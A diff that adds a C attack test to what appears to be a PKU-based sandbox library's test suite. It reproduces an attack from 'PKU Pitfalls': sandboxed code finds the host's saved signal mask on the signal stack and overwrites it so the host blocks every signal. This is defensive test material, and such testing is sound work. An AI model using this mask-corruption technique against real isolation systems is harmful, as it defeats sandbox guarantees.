@@ -1,0 +1,90 @@
+/* Tries: to have the host block all its signals, its deadlines among them, by the same way
+ * From: PKU Pitfalls (Connor et al., USENIX Security 2020), section 4.4
+ * Observed: The host blocks other signals than before.
+ * Needs: machine-code, threads, linux */
+#include "attacks/attack.h"
+
+#ifdef ATTACK_FOREIGN
+/* Step 1: writes to the place in the signal stack where the kernel has put the host's mask, as
+ * soon as it knows where that is, and goes on doing so. */
+FOREIGN(run)
+{
+    const uint64_t low = at->forbidden - (1 << 20), high = at->forbidden + (1 << 20);
+    if (at->step == 0) {
+        uint64_t all = ~0ull;
+        if (!at->signal_stack)
+            kernel6(SYS_rt_sigprocmask, 0, ADDRESS(&all), 0, 8, 0, 0);
+        at->call(1);
+        return 0;
+    }
+    if (!at->signal_stack) {
+        return 0;
+        return 0;
+    }
+    volatile uint64_t *words = POINTER(volatile uint64_t, at->signal_stack);
+    const uint64_t count = at->signal_stack_size / 8;
+    volatile uint64_t *place = NULL;
+    for (uint64_t round = 0; round < 100; round++) {
+        for (uint64_t i = count - 1; !place && i > count / 4; i--)
+            if (words[i] >= low && words[i] < high)
+                place = &words[i];
+        for (int i = 0; place && i < 100000; i++)
+            if (*place >= low && *place < high)
+                place[16] = ~0ull;
+    }
+    return 0;
+}
+#endif
+
+#ifdef ATTACK_HOST
+#include <signal.h>
+
+static void LOCAL(handle)(int signal)
+{
+    (void)signal;
+}
+
+static volatile bool LOCAL(done);
+static pthread_t LOCAL(main);
+
+static void *LOCAL(disturb)(void *unused)
+{
+    while (!LOCAL(done)) {
+        host_spin(1);
+        pthread_kill(LOCAL(main), SIGUSR1);
+    }
+    return unused;
+}
+
+/* While the library has called back, signals interrupt the host. */
+static uint64_t LOCAL(call)(uint64_t value)
+{
+    host_spin(200);
+    return value;
+}
+
+HOST(before)
+{
+    struct sigaction action = {.sa_handler = LOCAL(handle), .sa_flags = SA_ONSTACK | SA_RESTART};
+    sigaction(SIGUSR1, &action, NULL);
+    host->called_back = LOCAL(call);
+}
+
+HOST(run)
+{
+    struct host_thread second;
+    pthread_t disturber;
+    enum og_error error = host_prepare(host);
+    if (error)
+        return error;
+    LOCAL(main) = pthread_self();
+    host_thread_start(&second, host, 1, &LOCAL(done));
+    if (pthread_create(&disturber, NULL, LOCAL(disturb), NULL))
+        abort();
+    error = host_call(host, 0);
+    LOCAL(done) = true;
+    pthread_join(disturber, NULL);
+    enum og_error other = host_thread_join(&second);
+    return error ? error : other;
+}
+#endif
